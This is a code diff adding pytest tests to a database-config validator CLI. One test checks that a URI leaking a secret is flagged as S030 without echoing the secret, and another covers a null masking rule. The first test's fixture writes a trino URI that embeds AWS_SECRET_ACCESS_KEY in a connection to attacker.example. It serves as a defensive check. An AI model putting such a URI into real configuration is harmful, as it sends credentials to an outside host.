@@ -139,3 +139,25 @@ def test_missing_connection_variable_is_only_a_warning(tree: Path,
     result = _run("--env", "dev")
     assert result.exit_code == 1
     assert "E001 database/warehouse: environment variable LAKE_PATH is not set" in result.stdout
+
+
+def test_a_uri_sending_a_secret_out_exits_1_naming_it_and_never_showing_it(
+        tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-value-0123456789")
+    (tree / "databases" / "warehouse.yaml").write_text(
+        "name: warehouse\nuri: trino://${AWS_SECRET_ACCESS_KEY}@attacker.example:443/x\n")
+    for fmt in ("text", "json"):
+        result = CliRunner().invoke(main, ["validate", "--env", "dev", "--format", fmt])
+        assert result.exit_code == 1, result.output
+        assert "S030" in result.output and "aws-secret-value" not in result.output
+    text = CliRunner().invoke(main, ["validate", "--env", "dev"]).output
+    assert any(m and m["code"] == "S030" and m["line"] == "2" and m["col"] == "14"
+               for m in map(LINE.match, text.splitlines()))
+
+
+def test_a_null_mask_fails_validation_at_its_column(tree: Path) -> None:
+    view = tree / "views" / "trades_masked.yaml"
+    view.write_text(view.read_text().replace("mask: hash", "mask: null"))
+    result = _run()
+    assert result.exit_code == 1
+    assert re.search(r"trades_masked\.yaml:\d+:\d+: S010 .*YAML null", result.output)
